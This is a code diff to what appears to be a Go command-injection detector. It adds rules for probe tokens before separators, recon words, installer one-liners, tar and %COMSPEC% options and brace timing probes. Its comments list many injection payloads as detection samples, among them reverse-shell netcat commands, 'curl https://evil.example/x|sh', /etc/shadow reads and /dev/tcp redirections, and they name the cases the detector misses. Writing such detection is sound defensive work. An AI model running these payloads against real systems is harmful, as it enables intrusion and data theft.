@@ -26,7 +26,19 @@ import (
 //   - inside $(...), <(...) and >(...) any listed command counts;
 //   - prefix commands (time, nohup, sudo, env...) hand the position to the next word;
 //   - a shell (sh, bash...) that a pipe feeds ("x|sh") or that stands alone after a
-//     separator runs whatever came before or comes next.
+//     separator runs whatever came before or comes next;
+//   - after the first separator of a value that opens with a probe token (nothing, a
+//     number, an IP address, a host name, one lower-case letter or digit:
+//     "127.0.0.1|id", "1|ls", "x & ver", "8.8.8.8&net user"), the separator is a breakout
+//     however it is spelt, glued or apart, and even if the rest reads as prose: a
+//     bare-able command matches alone or with a short option word ("127.0.0.1;ps aux",
+//     not "1&id=5"), recon words that are English too (set, ver, vol) alone, every
+//     listed command with shell arguments (timeout /t 5, choice /t 5, certutil.exe
+//     -decode), and echo with a marker ("127.0.0.1;echo q7x2k9"). A word before it
+//     ("name|id", "Tom & Jerry") or a capital ("R&D", "A&W") is no probe token.
+//
+// A trailing comment ends a command as the value's end does ("127.0.0.1;id #",
+// ";id//"); a ".exe" suffix names the same command (curl.exe).
 //
 // The start of a value has no breakout, so a whole command line there is judged by what
 // it does, not by what it is: "ls -la", "tar -xzf site.tar.gz", "git status" or
@@ -36,13 +48,27 @@ import (
 // interpreter running inline code (python -c, bash -c), a command on a system location
 // (cat /etc/passwd, ls -l /root), a redirection into a script file (echo ... > x.php),
 // Windows account and registry changes (net user, reg add HKLM\...), a binary by
-// absolute path, a pipe into a shell (curl ... | bash), or a command word written with
-// evasions. The same rule applies to every command of a value whose separators are the
-// writer's own rather than a breakout: prose (a forum post or ticket with a sentence in
-// it, markdown inline code), shebang scripts, and a value that is a command line from
-// its first word ("cd /var/www && ls -la"). So a shell snippet quoted in a post passes
-// while "\ncat /etc/passwd", "x; id" and "ls; cat /etc/shadow" do not. The price: a
-// webshell run as "?cmd=ls -la" or "?cmd=ansible-inventory --list" is not flagged.
+// absolute path with arguments (or a recon binary alone: /usr/bin/id; "/bin/sh" alone
+// is a path, as in a container's command array), a pipe into a shell (curl ... | bash),
+// or a command word written with evasions. The same rule applies to every command of a
+// value whose separators are the writer's own rather than a breakout: prose (a forum
+// post or ticket with a sentence in it, markdown inline code), shebang scripts, and a
+// value that is a command line from its first word ("cd /var/www && ls -la"). So a shell snippet quoted in a post passes
+// while "\ncat /etc/passwd", "x; id" and "ls; cat /etc/shadow" do not.
+//
+// What tells a pasted command line from an injection is where the command stands: a
+// value, a line of a post or the cells of a markdown table ("| id | name |") that open
+// with it are the writer's own; a separator after a token of data is a breakout. So on
+// the writer's own lines a published installer piped into a shell passes (curl or wget
+// with options and one https URL on a named host, to standard output: the rustup, nvm,
+// nodesource and Homebrew one-liners, also as bash -c "$(curl ...)"), a $(...) that is
+// an argument of a command line with options is judged as a command opening a value
+// ("docker run -v $(pwd):/app", "--user $(id -u)"), and batch IF/FOR statements in a
+// post or script are not flagged by themselves. An http URL, an address, an output
+// file or an expansion in the fetch, or the same line after a breakout
+// ("x;curl https://sh.rustup.rs | sh"), still matches. The price: a webshell run as
+// "?cmd=ls -la", "?cmd=ansible-inventory --list" or "?cmd=curl https://evil.example/x|sh"
+// is not flagged.
 //
 // Command words are read the way a shell reads them, so evasions fold away: quotes and
 // backslashes inside a word (c'a't, who\ami, ""p""y""t""h""o""n, $'who'ami), empty expansions and
@@ -53,9 +79,11 @@ import (
 // variable used as the command name before arguments ($a -nlvp 555 after a=nc) matches.
 //
 // Constructs that are commands wherever they appear also match: /dev/tcp/ redirections,
-// the Shellshock prefix "() {", fork bombs, ${IFS}, cmd /c, PowerShell cmdlets that fetch
-// or run code, Windows batch FOR/IF statements, options that make a program run a
-// command (ssh -oProxyCommand=, git --upload-pack=, c89 -wrapper sh,...), bash parameter
+// the Shellshock prefix "() {", fork bombs, ${IFS}, cmd /c and %COMSPEC% /c, PowerShell
+// cmdlets that fetch or run code, Windows batch FOR/IF statements, options that make a
+// program run a command (ssh -oProxyCommand=, git --upload-pack=, tar
+// --checkpoint-action=exec=, c89 -wrapper sh,...), the command string of sh -c given
+// alone ("-c id"), brace expansion of a timing probe ({sleep,5}), bash parameter
 // expansion operators used for evasion (${PATH:0:1}, ${x#...}), and mail protocol
 // commands injected after a line break (SMTP MAIL FROM:, RCPT TO:, AUTH with an
 // initial response, POP3 RETR and LIST n, IMAP tagged commands).
@@ -63,7 +91,8 @@ import (
 // Deliberately not matched: filter expressions of REST query languages
 // ("created_at<2024-01-01;id>100", "status==open;ps>2": a field compared to a value, not
 // a command redirected into a file), listed words in prose ("cat food; dog food", "Tom & Jerry",
-// "red;$5 each", "Java | Python", "net user growth"), markdown inline code (`ls -la`),
+// "red;$5 each", "Java | Python", "net user growth"), field lists and pairs of data
+// ("name|id", "sort=name|id", "1|true", "0;false", "R&D", "A&W"), markdown inline code (`ls -la`),
 // jQuery $(...), make variables $(CC), template literals ${name} and defaults
 // ${PORT:-8080}, JavaScript stack traces ("\n    at f (x.js:1:2)"), GraphQL selections,
 // random tokens whose punctuation happens to spell a redirection (sensor data) and
@@ -87,6 +116,7 @@ const (
 	cmdHostile             // with shell-like arguments, hostile even at the start of a value
 	cmdShell               // a shell: "x|sh", "&&(sh)"
 	cmdWin                 // a Windows command: /x switches are its flags
+	cmdProbe               // enough alone after a breakout from a probe token: "1|set", "x & ver"
 )
 
 var cmdTable = map[string]uint16{}
@@ -116,9 +146,12 @@ func init() {
 	// Windows commands.
 	add(cmdWin, `assoc attrib bcdboot bcdedit call cacls copy del dir erase findstr forfiles
 		icacls md move net netsh nltest qwinsta quser reg regedit ren rd sc schtasks start
-		tasklist taskkill tracert ver where vssadmin wevtutil`)
+		tasklist taskkill tracert ver vol where vssadmin wevtutil choice`)
 	add(cmdBare, `ls id pwd dir ps uname whoami ifconfig ipconfig netstat hostname
 		systeminfo sysinfo tasklist who env htop lscpu exit`)
+	// Recon words that are English words or settings too (set, ver): enough alone only
+	// right after a breakout from a probe token ("127.0.0.1|set", "x & ver").
+	add(cmdProbe, `set ver vol`)
 	add(cmdAlone, `whoami ifconfig ipconfig systeminfo sysinfo netstat uname`)
 	add(cmdStrong, `whoami ifconfig ipconfig uname wget ncat netcat socat busybox powershell
 		pwsh chmod chown nslookup netstat systeminfo sysinfo tasklist taskkill certutil
@@ -159,6 +192,7 @@ const (
 	posAttached        // a single & or | glued to a word: "a|b", "Q&A"
 	posLoose           // a single & or | standing apart: "x & y", "x | y"
 	posStrong          // ; && || newline backtick, or a separator opening the value
+	posBreakout        // the first separator, after a probe token only: "127.0.0.1|id", "x & ver"
 	posSubst           // inside $( <( >( or a shell-exec string: any listed command
 )
 
@@ -316,6 +350,12 @@ func cmdexe(v string) (string, bool) {
 			return f, true
 		}
 	}
+	if len(v) > 3 && v[0] == '-' && v[1] == 'c' && v[2] == ' ' {
+		// "-c id": the command string of the sh -c a value is handed to (utilCmdArgs)
+		if f, ok := s.afterSep(0, 2, posStrong, false); ok {
+			return f, true
+		}
+	}
 	if seen&cbSpecial == 0 {
 		// No separator: only a batch statement opening the value can be left.
 		k := skipSpaces(v, 0)
@@ -324,6 +364,17 @@ func cmdexe(v string) (string, bool) {
 		}
 		return "", false
 	}
+	// The first separator after a probe token (127.0.0.1|, 1;, x &): a breakout
+	// whatever its spelling, and no prose nor command line can have written it. One
+	// that opens the value is a breakout unless the value reads as prose; a backtick
+	// opening it is a code fence or inline code.
+	breakout := -1
+	if seen&cbSep != 0 && !script {
+		if k := strings.IndexAny(v, ";|&\n\r`"); v[k] != '`' && probeToken(v[:k]) && (s.sepCap == posStrong || strings.TrimSpace(v[:k]) != "") {
+			breakout = k
+		}
+	}
+	rowEnd, row := -1, false // the end of the line last judged by tableRow, and its verdict
 	for i := 0; i < len(v); i++ {
 		switch c := v[i]; c {
 		case ';', '|', '&', '\n', '\r', '`':
@@ -343,7 +394,25 @@ func cmdexe(v string) (string, bool) {
 			} else {
 				level = min(level, s.sepCap)
 			}
-			if f, ok := s.afterSep(i, j, level, c == '|' && j-i == 1); ok {
+			pipe := c == '|' && j-i == 1
+			cell := false
+			if c == '|' {
+				if i >= rowEnd {
+					rowEnd, row = tableRow(v, i)
+				}
+				// "| id | name |": the cells of a table, each read as a value opens.
+				cell = row
+			}
+			if cell {
+				level, pipe = posStart, false
+			} else if i == breakout {
+				level = posBreakout
+			} else if pipe && level == posStart && s.installerFetch(cmdLineStart(v, i), i) {
+				// "curl -sSf https://sh.rustup.rs | sh" pasted in a post or typed as a
+				// whole command line: a published installer, not a shell fed by a breakout.
+				pipe = false
+			}
+			if f, ok := s.afterSep(i, j, level, pipe); ok {
 				return f, true
 			}
 			if c == '\n' || c == '\r' {
@@ -379,7 +448,13 @@ func cmdexe(v string) (string, bool) {
 			}
 		case '$', '<', '>':
 			if i+1 < len(v) && v[i+1] == '(' && (c != '$' || !jqueryCall(v, i+2)) && !script {
-				if f, ok := s.afterSep(i, i+2, posSubst, false); ok {
+				level := posSubst
+				if c == '$' && substArgument(v, i) {
+					// docker run -v $(pwd):/app: an argument the writer composed, its
+					// command judged as one opening a value.
+					level = posStart
+				}
+				if f, ok := s.afterSep(i, i+2, level, false); ok {
 					return f, true
 				}
 			}
@@ -423,7 +498,91 @@ func cmdexe(v string) (string, bool) {
 	if f, ok := windowsCommand(v); ok {
 		return f, true
 	}
+	if s.sepCap == posStart {
+		// IF and FOR statements in a post's code block or a script are the writer's own;
+		// the commands they run were judged above.
+		return "", false
+	}
 	return batchStatement(v)
+}
+
+// probeToken reports whether t, what stands before a value's first separator, is the
+// throwaway input an injection is appended to: nothing, a number, an IPv4 or IPv6
+// address (with a port), a host name, or a single lower-case letter or digit, quotes
+// around it dropped ("127.0.0.1", "1", "x", "example.com", "1'"). A word ("name|id",
+// "Tom & Jerry", "sort=name|id") or a capital letter ("R&D", "A & W", "I & my team")
+// is none.
+func probeToken(t string) bool {
+	t = strings.Trim(t, " \t'\"")
+	if len(t) <= 1 {
+		return t == "" || 'a' <= t[0] && t[0] <= 'z' || isDigit(t[0])
+	}
+	if len(t) > 64 {
+		return false
+	}
+	digits, dots, colons, hex := 0, 0, 0, true
+	label, alpha := 0, false // length of the current host label; whether it has a letter
+	for i := 0; i < len(t); i++ {
+		switch c := t[i]; {
+		case isDigit(c):
+			digits++
+			label++
+		case c == '.':
+			if label == 0 {
+				return false
+			}
+			dots++
+			label, alpha = 0, false
+		case c == ':':
+			colons++
+		case isAlpha(c) || c == '-':
+			if !('a' <= c|0x20 && c|0x20 <= 'f') {
+				hex = false
+			}
+			label++
+			alpha = alpha || c != '-'
+		default:
+			return false
+		}
+	}
+	switch {
+	case colons >= 2 && hex:
+		return true // ::1, fe80::1
+	case digits == len(t)-dots-colons:
+		return digits > 0 && label > 0 // 1, 127.0.0.1, 127.0.0.1:8080
+	}
+	return dots > 0 && label > 0 && alpha && colons <= 1 // example.com, host.local:80
+}
+
+// tableRow reports whether the line of v holding i is a row of a markdown table: it
+// opens and closes with '|', has two cells or more, and one cell at least is no
+// listed command ("| id | name |", "|---|---|"; not "|id|ls|"). It returns the end of
+// the line too.
+func tableRow(v string, i int) (int, bool) {
+	start := strings.LastIndexAny(v[:i], "\n\r") + 1
+	end := len(v)
+	if k := strings.IndexAny(v[i:], "\n\r"); k >= 0 {
+		end = i + k
+	}
+	line := strings.TrimSpace(v[start:end])
+	if len(line) < 4 || line[0] != '|' || line[len(line)-1] != '|' {
+		return end, false
+	}
+	cells, data := 0, false
+	for rest := line[1:]; rest != ""; {
+		k := strings.IndexByte(rest, '|')
+		c := strings.TrimSpace(rest[:k])
+		rest = rest[k+1:]
+		if c == "" || strings.ContainsAny(c, ";&`$<>") {
+			return end, false
+		}
+		cells++
+		var buf [24]byte
+		if w, n := lowerWord(buf[:], c, 0, isCmdByte); n < len(c) || cmdTable[string(w)] == 0 {
+			data = true
+		}
+	}
+	return end, cells >= 2 && data
 }
 
 // proseText reports whether a value reads as prose: a run of three words of letters
@@ -613,7 +772,24 @@ func (s *cmdScan) cmdAt(i, level int, pipe bool, depth int) (string, bool) {
 	end := w.end
 	if w.binPath {
 		// /usr/bin/anything: a binary by absolute path.
-		if level > posStart || s.shellArg(end, cmdWeak) != argNone {
+		if level > posStart {
+			return v[i:end], true
+		}
+		switch s.shellArg(end, cmdWeak) {
+		case argNone:
+		case argEnd, argSep:
+			// "/bin/sh" alone is a path (a login shell, a container's command array);
+			// "/usr/bin/id" alone runs recon.
+			var buf [24]byte
+			base, _ := lowerWord(buf[:], v, strings.LastIndexByte(v[i:end], '/')+i+1, isCmdByte)
+			if cmdTable[string(base)]&(cmdBare|cmdAlone|cmdStrong) != 0 || strings.ContainsAny(v[i:end], "?*[") {
+				return v[i:end], true
+			}
+		case argFlag:
+			if !s.installerRun(end) {
+				return v[i:end], true
+			}
+		default:
 			return v[i:end], true
 		}
 		return "", false
@@ -623,6 +799,13 @@ func (s *cmdScan) cmdAt(i, level int, pipe bool, depth int) (string, bool) {
 	}
 	word := w.word
 	class := cmdTable[string(word)]
+	if class == 0 && len(word) > 4 && string(word[len(word)-4:]) == ".exe" {
+		// curl.exe, certutil.exe: a Windows program, its /x switches flags
+		word = word[:len(word)-4]
+		if class = cmdTable[string(word)]; class != 0 {
+			class |= cmdWin
+		}
+	}
 	if class == 0 {
 		word = trimVersion(word)
 		class = cmdTable[string(word)]
@@ -636,6 +819,8 @@ func (s *cmdScan) cmdAt(i, level int, pipe bool, depth int) (string, bool) {
 	}
 	shellArg := arg == argFlag || arg == argPath || arg == argRedirect || arg == argVar
 	alone := arg == argEnd || arg == argSep
+	// "127.0.0.1;id #": a comment ends the command as the value's end does.
+	ended := alone || arg == argComment && level >= posStrong
 	if level == posSubst {
 		// $(id), <(cat file); $(CC) and $(MAKE) are make variables.
 		if lowerWord := strings.ToLower(v[i:end]) == v[i:end]; lowerWord {
@@ -689,7 +874,7 @@ func (s *cmdScan) cmdAt(i, level int, pipe bool, depth int) (string, bool) {
 		}
 		return "", false
 	}
-	if class&cmdInterp != 0 && arg == argFlag && interpFlag(v, s.skipSpaces(end)) {
+	if class&cmdInterp != 0 && arg == argFlag && interpFlag(v, s.skipSpaces(end)) && !(level == posStart && s.installerRun(end)) {
 		return v[i:end], true
 	}
 	if f, ok := s.scriptRedirect(i, end); ok {
@@ -715,12 +900,18 @@ func (s *cmdScan) cmdAt(i, level int, pipe bool, depth int) (string, bool) {
 	case class&cmdShell != 0 && pipe && (alone || shellArg || arg == argComment):
 		// x|sh, echo ... | sh #
 		return v[i:end], true
-	case class&cmdShell != 0 && level == posStrong && alone && lower:
+	case class&cmdShell != 0 && level >= posStrong && alone && lower:
 		// a=/dev&&(sh)0>$a/tcp/...
 		return v[i:end], true
 	case class&cmdPipe != 0 && pipe && level >= posLoose && lower && (alone || shellArg):
 		return v[i:end], true
-	case class&cmdBare != 0 && alone && (level == posStrong || level == posLoose && lower) && !(s.braces && s.lineBreakBefore(i)):
+	case class&cmdBare != 0 && ended && (level >= posStrong || level == posLoose && lower) && !(s.braces && s.lineBreakBefore(i)):
+		return v[i:end], true
+	case level == posBreakout && lower && class&(cmdBare|cmdProbe) != 0 && (ended || shellArg || class&cmdBare != 0 && s.shortOption(end)):
+		// 127.0.0.1|ps aux, x & ver, 1|set: the probe a scanner appends to a host
+		return v[i:end], true
+	case level == posBreakout && lower && string(word) == "echo" && s.spaceAt(end):
+		// 127.0.0.1;echo q7x2k9: a marker echoed to see whether it comes back
 		return v[i:end], true
 	case class&cmdBare != 0 && level == posAttached && lower && pipe && end+1 == len(v) && v[end] == '|':
 		// "file.html|id|": a pipeline, not the "name|id|email" of a header row
@@ -740,12 +931,171 @@ func (s *cmdScan) cmdAt(i, level int, pipe bool, depth int) (string, bool) {
 	case arg == argNum && class&(cmdNum|cmdNet) != 0 && level >= posLoose:
 		return v[i:end], true
 	}
-	if level == posStrong && arg != argEnd && arg != argSep {
+	if level >= posStrong && arg != argEnd && arg != argSep {
 		if f, ok := s.commandChain(i, end); ok {
 			return f, true
 		}
 	}
 	return "", false
+}
+
+// shortOption reports whether the command ending at end takes a short word of
+// lower-case letters as its argument, the way ps takes "aux" and who "am i": not
+// "id=5", not "who knows".
+func (s *cmdScan) shortOption(end int) bool {
+	v := s.v
+	k := s.skipSpaces(end)
+	if k == end {
+		return false
+	}
+	e := k
+	for e < len(v) && 'a' <= v[e] && v[e] <= 'z' {
+		e++
+	}
+	return e > k && e-k <= 4 && (e == len(v) || s.spaceAt(e) || strings.IndexByte(";|&\n\r#", v[e]) >= 0)
+}
+
+// cmdLineStart returns where the command that ends at i starts: after the last
+// separator, line break, backtick or '(' before it.
+func cmdLineStart(v string, i int) int {
+	return strings.LastIndexAny(v[:i], ";&|\n\r`(") + 1
+}
+
+// cmdLineEnd returns where the command that goes on at i ends: at the next separator,
+// line break, backtick or ')'.
+func cmdLineEnd(v string, i int) int {
+	if k := strings.IndexAny(v[i:], ";&|\n\r`)"); k >= 0 {
+		return i + k
+	}
+	return len(v)
+}
+
+// installerFetch reports whether v[start:end] is a command that fetches a published
+// installer script to standard output, the way install instructions pipe one into a
+// shell: curl or wget (after sudo), options, and one https URL on a named host, as in
+// "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs", "curl -fsSL
+// https://deb.nodesource.com/setup_20.x", "wget -qO- https://raw.githubusercontent.com/...".
+// A plain http URL, an address, a second URL, an output file, or an expansion,
+// substitution or redirection makes it none: "curl http://203.0.113.5/x".
+func (s *cmdScan) installerFetch(start, end int) bool {
+	line := s.v[start:end]
+	fetch, urls, out := false, 0, false
+	for n := 0; ; n++ {
+		line = strings.TrimLeft(line, " \t")
+		if line == "" {
+			break
+		}
+		k := strings.IndexAny(line, " \t")
+		if k < 0 {
+			k = len(line)
+		}
+		tok := strings.Trim(line[:k], `'"`)
+		line = line[k:]
+		if strings.ContainsAny(tok, "$`<>\\") {
+			return false
+		}
+		switch {
+		case !fetch:
+			if strings.EqualFold(tok, "sudo") && n == 0 {
+				continue
+			}
+			if !strings.EqualFold(tok, "curl") && !strings.EqualFold(tok, "wget") {
+				return false
+			}
+			fetch = true
+		case out:
+			if tok != "-" {
+				return false // -o file, -O file: saved, not piped
+			}
+			out = false
+		case hasPrefixFold(tok, "https://"):
+			host := tok[len("https://"):]
+			if k := strings.IndexAny(host, "/:?#"); k >= 0 {
+				host = host[:k]
+			}
+			if !dnsName(host) {
+				return false
+			}
+			urls++
+		case strings.Contains(tok, "://"):
+			return false
+		case tok == "--output" || tok == "--output-document" || tok == "--remote-name":
+			out = true
+		case len(tok) > 1 && tok[0] == '-' && tok[1] != '-':
+			// -qO- and -o- write to standard output; -o and -O take a file next.
+			if o := strings.IndexAny(tok, "oO"); o >= 0 {
+				switch tok[o+1:] {
+				case "":
+					out = true
+				case "-":
+				default:
+					return false
+				}
+			}
+		}
+	}
+	return fetch && urls == 1 && !out
+}
+
+// dnsName reports a DNS name with a top-level domain of letters: not an address,
+// not a single label.
+func dnsName(h string) bool {
+	dot := strings.LastIndexByte(h, '.')
+	if dot <= 0 || len(h)-dot-1 < 2 {
+		return false
+	}
+	for k := 0; k < len(h); k++ {
+		if c := h[k]; !isAlnum(c) && c != '-' && c != '.' || k > dot && !isAlpha(c) {
+			return false
+		}
+	}
+	return true
+}
+
+// installerRun reports whether the interpreter flag after end runs a fetched installer
+// and nothing else: -c "$(curl -fsSL https://raw.githubusercontent.com/.../install.sh)",
+// Homebrew's one-liner.
+func (s *cmdScan) installerRun(end int) bool {
+	v := s.v
+	k := s.skipSpaces(end)
+	if !strings.HasPrefix(v[k:], "-c") {
+		return false
+	}
+	k = s.skipSpaces(k + 2)
+	var q byte
+	if k < len(v) && (v[k] == '"' || v[k] == '\'') {
+		q = v[k]
+		k++
+	}
+	if !strings.HasPrefix(v[k:], "$(") {
+		return false
+	}
+	close := strings.IndexByte(v[k:], ')')
+	if close < 0 || !s.installerFetch(k+2, k+close) {
+		return false
+	}
+	e := k + close + 1
+	if q != 0 {
+		if e >= len(v) || v[e] != q {
+			return false
+		}
+		e++
+	}
+	return e == len(v) || isSpace(v[e]) || v[e] == '`'
+}
+
+// substArgument reports whether the substitution "$(" at i is an argument in a command
+// line its writer typed: the line, or the inline code span, it stands on opens with a
+// word or path and passes an option before it, with no separator in between
+// ("docker run -v $(pwd):/app", "chown -R $(id -u) .", `bash -c "$(curl ...)"`).
+// Injected substitutions stand alone or after data: "$(id)", "x$(sleep 5)".
+func substArgument(v string, i int) bool {
+	seg := v[strings.LastIndexAny(v[:i], "\n\r`")+1 : i]
+	k := skipSpaces(seg, 0)
+	if k >= len(seg) || !isAlpha(seg[k]) && seg[k] != '/' || strings.ContainsAny(seg, ";|&") {
+		return false
+	}
+	return strings.Contains(seg, " -")
 }
 
 // hostBefore reports whether what precedes the separator before v[i] is the whole
@@ -796,7 +1146,8 @@ func (s *cmdScan) startCommand(i, end int, class uint16, arg int, alone bool) (s
 	case class&cmdAlone != 0 && alone:
 		// whoami, ifconfig; ...
 		return v[i:end], true
-	case class&cmdHostile != 0 && (shellArg || arg == argNet && class&cmdNet != 0 && s.fetchesCode(end)):
+	case class&cmdHostile != 0 && (shellArg || arg == argNet && class&cmdNet != 0 && s.fetchesCode(end)) &&
+		!(class&cmdNet != 0 && s.installerFetch(i, cmdLineEnd(v, end))):
 		return v[i:end], true
 	case class&cmdNet != 0 && arg == argFlag && s.netShell(end):
 		// nc -lvvp 4444 -e /bin/sh
@@ -834,7 +1185,7 @@ func (s *cmdScan) expansionCommand(i int, w cmdWord, level int, pipe bool, depth
 			return v[i:k], true
 		}
 	}
-	if level == posStrong && (k == len(v) || v[k] == '$') && s.hasAssignment(w.expName) {
+	if level >= posStrong && (k == len(v) || v[k] == '$') && s.hasAssignment(w.expName) {
 		return v[i:end], true
 	}
 	if k > end && k < len(v) && isAlpha(v[k]) && level > posStart {
@@ -1448,7 +1799,7 @@ func (s *cmdScan) shellArg(end int, class uint16) int {
 	if i >= len(v) {
 		return argEnd
 	}
-	if i == end && !(v[i] == ';' || v[i] == '|' || v[i] == '&' || v[i] == '`' || v[i] == ')' || v[i] == '<' || v[i] == '>' || v[i] == '\n' || v[i] == '\r' || v[i] == '\\') {
+	if i == end && !(v[i] == ';' || v[i] == '|' || v[i] == '&' || v[i] == '`' || v[i] == ')' || v[i] == '<' || v[i] == '>' || v[i] == '\n' || v[i] == '\r' || v[i] == '\\' || v[i] == '/' && i+1 < len(v) && v[i+1] == '/') {
 		// Glued to the word and not a separator: "time." or "id=5".
 		if end > 0 && v[i] != '$' && !(class&cmdWin != 0 && v[i] == '/') {
 			return argNone
@@ -1462,6 +1813,12 @@ func (s *cmdScan) shellArg(end int, class uint16) int {
 	switch c {
 	case ';', '|', '&', '`', ')', '\n', '\r', '}':
 		return argSep
+	case '/':
+		if i == end && next == '/' && (i+2 == len(v) || isSpace(v[i+2])) {
+			return argComment // "id//": the comment of the code a value was spliced into
+		}
+	}
+	switch c {
 	case '#':
 		if i > end {
 			return argComment
@@ -1766,7 +2123,7 @@ func (s *cmdScan) braceCommand(i int) (string, bool) {
 	}
 	// The first non-empty element, with what is glued after the closing brace.
 	first := ""
-	empty, shelly := false, false
+	empty, shelly, num := false, false, false
 	rest := body
 	for rest != "" || first == "" {
 		k := strings.IndexByte(rest, ',')
@@ -1783,6 +2140,8 @@ func (s *cmdScan) braceCommand(i int) (string, bool) {
 			first = el
 		case el[0] == '-' || el[0] == '/' || el[0] == '$' || el[0] == '.' || el[0] == '~':
 			shelly = true
+		case allDigits(el):
+			num = true
 		}
 		if k < 0 {
 			break
@@ -1790,6 +2149,12 @@ func (s *cmdScan) braceCommand(i int) (string, bool) {
 	}
 	if body[len(body)-1] == ',' {
 		empty = true
+	}
+	if num && !shelly {
+		// {sleep,5}, {ping,-n,5}: a number is the argument of a timing probe
+		var buf [24]byte
+		w, n := lowerWord(buf[:], first, 0, isCmdByte)
+		shelly = n == len(first) && cmdTable[string(w)]&cmdNum != 0
 	}
 	if first == "" || !empty && !shelly {
 		return "", false
@@ -1857,13 +2222,14 @@ func (s *cmdScan) execCall(i int) (string, bool) {
 }
 
 // cmdOptionInjection matches options that make a program run a command: ssh's
-// -oProxyCommand=, git's --upload-pack= / --open-files-in-pager=, and the compiler
-// driver's -wrapper sh,-c,...
+// -oProxyCommand=, git's --upload-pack= / --open-files-in-pager=, tar's
+// --checkpoint-action=exec= / --to-command= (file names that start with dashes, for a
+// "tar cf x *" in a directory), and the compiler driver's -wrapper sh,-c,...
 func cmdOptionInjection(v string, i int) (string, bool) {
 	if i > 0 && isIdent(v[i-1]) {
 		return "", false
 	}
-	for _, opt := range []string{"-oproxycommand", "--upload-pack=", "--open-files-in-pager=", "--receive-pack="} {
+	for _, opt := range []string{"-oproxycommand", "--upload-pack=", "--open-files-in-pager=", "--receive-pack=", "--checkpoint-action=exec", "--to-command="} {
 		if hasPrefixFold(v[i:], opt) {
 			return around(v, i, i+len(opt)), true
 		}
@@ -1996,6 +2362,12 @@ func allDigits(s string) bool {
 // cmdlets that fetch or run code.
 func windowsCommand(v string) (string, bool) {
 	if strings.IndexByte(v, '/') >= 0 {
+		if i := indexFold(v, "%comspec%"); i >= 0 {
+			// %COMSPEC% /c: cmd.exe by the variable that names it
+			if k := skipSpaces(v, i+9); k > i+9 && k+1 < len(v) && v[k] == '/' && strings.IndexByte("ckCK", v[k+1]) >= 0 && (k+2 == len(v) || !isAlpha(v[k+2])) {
+				return around(v, i, k+2), true
+			}
+		}
 		if i := indexWordFold(v, "cmd"); i >= 0 {
 			j := i + 3
 			if hasPrefixFold(v[j:], ".exe") {
